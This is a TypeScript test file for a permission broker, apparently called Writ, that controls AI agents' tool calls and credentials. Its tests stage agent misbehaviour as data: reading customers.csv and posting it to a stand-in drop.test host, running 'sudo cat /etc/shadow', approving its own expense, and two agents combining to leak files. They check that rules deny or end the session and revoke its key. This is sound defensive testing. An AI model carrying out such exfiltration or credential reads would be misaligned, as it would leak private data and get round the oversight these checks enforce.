/**
 * The stories that Writ is for, each the whole way: an agent that does what no single permission forbids,
 * what stops it, and whether the key that it held is really dead at its target afterwards.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import pg from 'pg';
import { brokerPassword, openShop, type Shop, serversToTest } from '../providers/postgres/harness.test-support.ts';
import { type Agent, type Deployment, startDeployment } from './deployment.test-support.ts';
import { type CallAnswer, codes, type Host, hostOf } from './tool-calls.test-support.ts';

/** Agents of one owner: their runs are told apart by the repository. */
const agents: { [name: string]: string } = {
  'invoice-bot': '4711',
  'expense-bot': '5001',
  'reader-bot': '5002',
  'sender-bot': '5003',
};

const tools = `
tools:
  read_file: { description: Reads a file., sensitivity: 2, labels: [files] }
  search: {}
  http_post: { destination: [url], args: { url: { pattern: 'https://.*' } } }
  shell: { args: { command: { pattern: '.*' } } }
  submit_expense: { entity: 'expense:\${args.id}' }
  approve_expense: { entity: 'expense:\${args.id}' }
  read_orders: { tasks: [answer-invoice-question], args: { customer_id: '\${inputs.customer_id}' }, no_other_args: true }
  read_secret: {}
  list_users: { labels: [people] }
  read_salaries: { labels: [pay] }
  export: {}
  write_note: { entity: 'note:\${args.id}', writes: true }
  read_note: { entity: 'note:\${args.id}' }
  book_flight: {}
classes:
  read.sensitive: { tools: [read_file] }
  egress: { tools: [http_post] }
  production: { tools: [read_secret], capabilities: [correct-customer-invoice, read-customer-files] }
egress: { known: ['*.partner.test'] }
`;

const separation = `
separation_of_duties:
  - { id: expenses, duties: [{ tool: submit_expense }, { tool: approve_expense }], same: [entity], within: 30d }
`;

describe('stories', () => {
  let deployment: Deployment;
  let host: Host;
  let example: string;
  before(async () => {
    const bindings = Object.entries(agents)
      .slice(1)
      .map(
        ([agent, repository]) =>
          `  - { issuer: sandbox-ci, agent: ${agent}, started_by_claim: actor, started_by_kind: email, claims: { repository_id: "${repository}" } }\n`,
      );
    deployment = await startDeployment({ trust: (source) => `${source.trimEnd()}\n${bindings.join('')}` });
    example = await readFile(join(import.meta.dirname, 'example/manifests/invoice-bot.yaml'), 'utf8');
  });
  after(() => deployment.close());

  /** Publishes it with these rules and opens a session of it. */
  const agentWith = async (rules: string, name = 'invoice-bot', envelope = ''): Promise<Agent> => {
    await published(rules, name, envelope);
    return openOf(name);
  };
  const published = async (rules: string, name = 'invoice-bot', envelope = '') => {
    const source = example
      .replace('agent: invoice-bot', `agent: ${name}`)
      .replace(
        'envelope: { wall_time: 30m, max_grants: 20 }',
        `envelope: { wall_time: 30m, max_grants: 20${envelope} }`,
      );
    const reply = await deployment.publish(name, source + tools + rules);
    assert.equal(reply.status, 200, reply.text);
    host = hostOf(deployment, 'invoice-bot');
  };
  const openOf = async (name: string, task: object = {}): Promise<Agent> => {
    const subjectToken = await deployment.world.subjectToken({ repository_id: agents[name]! });
    return deployment.openAgent({ subjectToken, task: { ...task } });
  };
  const call = (agent: Agent, tool: string, args: object = {}, name = 'invoice-bot'): Promise<CallAnswer> =>
    hostOf(deployment, name).call(agent, tool, args);
  /** The session has ended, and so has its key at the target. */
  const dead = async (agent: Agent, key: Parameters<Host['works']>[0]) => {
    await host.settled(agent);
    return [(await host.statusOf(agent)).session.end_reason, await host.works(key)];
  };

  test('exfiltration by read and post, to an endpoint not on the known-good list', async () => {
    const agent = await agentWith(`
rules:
  - id: data-stays
    on: { class: egress }
    when: { formerly: { class: read.sensitive, within: 30m }, destination: unknown }
    effect: terminate
`);
    const key = await host.keyOf(agent);
    assert.equal((await call(agent, 'http_post', { url: 'https://drop.test/x' })).decision, true, 'nothing was read');
    await host.made(agent, 'read_file', { path: 'customers.csv' });
    assert.equal((await call(agent, 'http_post', { url: 'https://api.partner.test/x' })).decision, true, 'known');
    assert.equal(await host.works(key), true);
    assert.equal((await call(agent, 'http_post', { url: 'https://drop.test/x' })).context.effect, 'terminate');
    assert.deepEqual(await dead(agent, key), ['ended_by_rule', false]);
  });

  test('a shell after an attempt at sudo', async () => {
    const agent = await agentWith(`
rules:
  - id: no-sudo
    on: { tool: shell, match: { command: '(?:.*\\s)?sudo\\s.*' } }
    effect: deny
  - id: after-sudo
    on: { tool: shell }
    when: { formerly: { tool: shell, match: { command: '(?:.*\\s)?sudo\\s.*' }, kind: [attempt], within: 1h } }
    effect: terminate
`);
    const key = await host.keyOf(agent);
    assert.equal((await call(agent, 'shell', { command: 'ls' })).decision, true);
    assert.equal((await call(agent, 'shell', { command: 'sudo cat /etc/shadow' })).context.effect, 'deny');
    assert.equal(await host.works(key), true, 'the attempt was denied, no more');
    assert.equal((await call(agent, 'shell', { command: 'ls' })).context.effect, 'terminate');
    assert.deepEqual(await dead(agent, key), ['ended_by_rule', false]);
  });

  describe('an expense is submitted and approved by one hand', () => {
    before(() => Promise.all([published(separation), published(separation, 'expense-bot')]));
    const submitted = async (agent: Agent, id: string, name = 'invoice-bot') =>
      assert.equal((await call(agent, 'submit_expense', { id }, name)).decision, true);
    const approval = async (agent: Agent, id: string, name = 'invoice-bot') =>
      codes(await call(agent, 'approve_expense', { id }, name));

    test('in one session', async () => {
      const agent = await openOf('invoice-bot');
      await submitted(agent, 'one');
      assert.deepEqual(await approval(agent, 'one'), ['separation_of_duties']);
      assert.deepEqual(await approval(agent, 'of somebody else'), []);
    });
    test('in two sessions', async () => {
      await submitted(await openOf('invoice-bot'), 'two');
      assert.deepEqual(await approval(await openOf('invoice-bot'), 'two'), ['separation_of_duties']);
    });
    test('by a sub-agent', async () => {
      const parent = await openOf('invoice-bot');
      await submitted(parent, 'sub');
      const opened = await deployment.tokenRequest({
        subjectToken: parent.token,
        form: { subject_token_type: 'urn:ietf:params:oauth:token-type:access_token' },
        task: { capabilities: ['read-customer-files'] },
      });
      assert.equal(opened.status, 200, opened.text);
      assert.deepEqual(await approval(deployment.agentOf(opened.body), 'sub'), ['separation_of_duties']);
    });
    test('by another agent for the same human', async () => {
      const person = { on_behalf_of: 'user:somebody@example.com' };
      await submitted(await openOf('invoice-bot', person), 'other');
      assert.deepEqual(await approval(await openOf('expense-bot', person), 'other', 'expense-bot'), [
        'separation_of_duties',
      ]);
    });
  });

  test('orders of another customer than the task’s', async () => {
    const agent = await agentWith('');
    assert.equal((await call(agent, 'read_orders', { customer_id: '42' })).decision, true);
    for (const args of [{ customer_id: '43' }, {}, { customer_id: ['42', '43'] }, { customer_id: '42', all: true }])
      assert.deepEqual(codes(await call(agent, 'read_orders', args)), ['argument_outside'], JSON.stringify(args));
  });

  test('five minutes, two hundred calls, half a dollar', async () => {
    const envelope = ', max_calls: 200, max_cost_usd: 0.5';
    const bounds = `
rules:
  - { id: five-minutes, on: '*', when: { elapsed: 5m }, effect: terminate }
`;
    const late = await agentWith(bounds, 'invoice-bot', envelope);
    const key = await host.keyOf(late);
    await host.pass(late, 300);
    assert.equal((await call(late, 'search')).decision, true, 'five minutes are fine');
    await host.pass(late, 1);
    assert.equal((await call(late, 'search')).context.effect, 'terminate');
    assert.deepEqual(await dead(late, key), ['ended_by_rule', false]);

    const busy = await openOf('invoice-bot');
    const busyKey = await host.keyOf(busy);
    for (let n = 0; n < 200; n += 1) assert.equal((await call(busy, 'search')).decision, true, String(n));
    const spent = await call(busy, 'search');
    assert.deepEqual([spent.context.effect, codes(spent)], ['terminate', ['envelope_spent']]);
    assert.deepEqual(await dead(busy, busyKey), ['ended_by_rule', false]);

    const dear = await openOf('invoice-bot');
    const dearKey = await host.keyOf(dear);
    for (let n = 0; n < 5; n += 1)
      assert.equal((await hostOf(deployment).call(dear, 'search', {}, { cost_usd: 0.1 })).decision, true, String(n));
    const over = await hostOf(deployment).call(dear, 'search', {}, { cost_usd: 0.01 });
    assert.deepEqual([over.context.effect, codes(over)], ['terminate', ['envelope_spent']]);
    assert.deepEqual(await dead(dear, dearKey), ['ended_by_rule', false]);
  });

  test('a summariser that reaches for production secrets: narrowed, until a person has looked', async () => {
    const agent = await agentWith(`
rules:
  - id: summariser
    message: A summariser has no business with secrets.
    on: { tool: read_secret }
    effect: downgrade
    withhold: { classes: [production] }
`);
    const key = await host.keyOf(agent);
    const lost = await call(agent, 'read_secret', { name: 'production/database' });
    assert.equal(lost.context.effect, 'downgrade');
    await host.settled(agent);
    assert.equal(await host.works(key), false);
    assert.equal((await agent.grant({ capability: 'read-customer-files' })).body.reasons?.[0]?.code, 'withheld');
    assert.equal((await call(agent, 'search')).decision, true, 'it goes on with less');
    assert.equal((await agent.call('GET', `/v1/grants/${lost.context.approval.id}`)).status, 200);
    const person = await deployment.approver();
    assert.match((await person.page('/approvals')).html, /A rule took something from/);
    await person.decide(lost.context.approval.id, { verdict: 'deny', reason: 'It is a summariser.' });
    assert.equal((await agent.grant({ capability: 'read-customer-files' })).body.reasons?.[0]?.code, 'withheld');
  });

  test('three tools that together are more than each', async () => {
    const agent = await agentWith(`
rules:
  - id: payroll
    message: Whoever has names and pay together exports nothing.
    on: { tool: export }
    when: [{ formerly: { tool: list_users, within: 1h }, label: pay }]
    effect: suspend
`);
    const key = await host.keyOf(agent);
    await host.made(agent, 'list_users');
    assert.equal((await call(agent, 'export')).decision, true);
    await host.made(agent, 'read_salaries');
    assert.equal((await call(agent, 'export')).context.effect, 'suspend');
    await host.settled(agent);
    assert.deepEqual([(await host.statusOf(agent)).session.status, await host.works(key)], ['suspended', false]);
  });

  test('two agents of one owner that together do what neither may', async () => {
    const stays = `
rules:
  - { id: stays, on: { class: egress }, when: { label: files, destination: unknown }, effect: terminate }
`;
    const reader = await agentWith(stays, 'reader-bot');
    const sender = await agentWith(stays, 'sender-bot');
    const key = await host.keyOf(sender);
    await hostOf(deployment, 'reader-bot').made(reader, 'read_file', { path: 'customers.csv' });
    await hostOf(deployment, 'reader-bot').made(reader, 'write_note', { id: 'n1' });
    await hostOf(deployment, 'sender-bot').made(sender, 'read_note', { id: 'n1' });
    const sent = await call(sender, 'http_post', { url: 'https://drop.test/' }, 'sender-bot');
    assert.equal(sent.context.effect, 'terminate');
    assert.deepEqual(await dead(sender, key), ['ended_by_rule', false]);
  });

  test('a credential that was never touched in earlier sessions', async () => {
    const rules = `
rules:
  - id: new-credential
    message: This agent never asked for it before.
    on: { capability: [read-customer-files, read-statements] }
    scope: agent
    when: { first_time: capability }
    effect: approve
`;
    const agent = await agentWith(rules, 'expense-bot');
    const asked = await agent.grant({ capability: 'read-customer-files' });
    assert.equal(asked.status, 202, asked.text);
    await (await deployment.approver()).decide(asked.body.id, { verdict: 'approve' });
    const redeemed = await agent.call('POST', `/v1/grants/${asked.body.id}/redeem`);
    assert.equal(redeemed.status, 201, redeemed.text);
    const later = await openOf('expense-bot');
    assert.equal((await later.grant({ capability: 'read-customer-files' })).status, 201, 'known by now');
    assert.equal((await later.grant({ capability: 'read-statements' })).status, 202, 'this one is new');
  });

  test('a call outside the task’s domain', async () => {
    const agent = await agentWith('', 'invoice-bot');
    assert.deepEqual(codes(await call(agent, 'format_disk')), ['tool_unknown']);
    const reply = await deployment.publish(
      'invoice-bot',
      `${example.replace('task_types:', 'task_types:\n  travel: { description: Book a journey., inputs: {} }')}${tools.replace('book_flight: {}', 'book_flight: { tasks: [travel] }')}`,
    );
    assert.equal(reply.status, 200, reply.text);
    assert.deepEqual(codes(await call(await openOf('invoice-bot'), 'book_flight')), ['not_permitted']);
  });
});

for (const binaries of serversToTest().slice(0, 1))
  describe(`orders rows of the task’s customer, and no other, on PostgreSQL ${binaries.version}`, () => {
    let shop: Shop;
    let deployment: Deployment;
    before(async () => {
      shop = await openShop(binaries);
      const url = `postgres://writ_broker:${brokerPassword}@127.0.0.1:${shop.server.port}/shop`;
      deployment = await startDeployment({ env: { WRIT_POSTGRES_URL: url } });
      const folder = join(import.meta.dirname, 'example');
      const [example, orders] = await Promise.all([
        readFile(join(folder, 'manifests/invoice-bot.yaml'), 'utf8'),
        readFile(join(folder, 'read-orders.yaml'), 'utf8'),
      ]);
      const reply = await deployment.publish(
        'invoice-bot',
        `${example}${orders.replace(', due]', ']')}${tools}
rules:
  - { id: data-stays, on: { class: egress }, when: { formerly: { tool: read_orders, within: session }, destination: unknown }, effect: suspend }
`,
      );
      assert.equal(reply.status, 200, reply.text);
    });
    after(async () => {
      await deployment.close();
      await shop.close();
    });

    test('and none once the session is suspended', async () => {
      const agent = await deployment.openAgent();
      const host = hostOf(deployment);
      const granted = await agent.grant({ capability: 'read-orders' });
      assert.equal(granted.status, 201, granted.text);
      const { host: at, port, database, user, password } = granted.body.credential;
      const open = async () => {
        const client = new pg.Client({
          host: at!,
          port: Number(port),
          database: database!,
          user: user!,
          password: password!,
        });
        await client.connect();
        return client;
      };
      const client = await open();
      client.on('error', () => {});
      const { rows } = await client.query('SELECT DISTINCT customer_id FROM orders');
      assert.deepEqual(
        rows.map(({ customer_id }) => Number(customer_id)),
        [42],
      );
      await assert.rejects(client.query('SELECT * FROM orders'), /permission denied/);
      await host.made(agent, 'read_orders', { customer_id: '42' });
      const sent = await host.call(agent, 'http_post', { url: 'https://drop.test/' });
      assert.equal(sent.context.effect, 'suspend');
      await host.settled(agent);
      await assert.rejects(client.query('SELECT 1'));
      await assert.rejects(open(), /authentication failed|does not exist|not permitted to log in/);
    });
  });
